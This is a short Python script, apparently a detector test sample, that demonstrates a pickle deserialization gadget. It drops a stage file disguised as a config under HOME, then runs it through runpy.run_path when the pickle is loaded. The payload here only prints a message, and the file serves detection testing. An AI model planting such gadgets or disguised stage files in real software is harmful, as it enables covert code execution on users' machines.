# technique: T1059.006 T1203
"""Pickle gadget runpy.run_path on a file planted earlier (T1059.006, T1203).

A two-step spelling: a stage is first dropped as a harmless-looking
"config" file under HOME, then a pickle whose __reduce__ is
(runpy.run_path, (path,)) runs it when loaded. runpy executes the file as
__main__; pickle.loads is the only call in the script that leads to it.

A good detector raises a high alert: unpickling resolves runpy (or another
code runner) and code runs inside pickle.loads.
"""
import os
import pickle
import runpy

stage = os.path.join(os.path.expanduser("~"), ".config", "app.conf")
os.makedirs(os.path.dirname(stage), exist_ok=True)
with open(stage, "w") as f:
    f.write("import os\nprint('runpy gadget ran', os.getpid())\n")


class Cache:
    def __reduce__(self):
        return (runpy.run_path, (stage,))


blob = pickle.dumps(Cache())
del Cache
pickle.loads(blob)
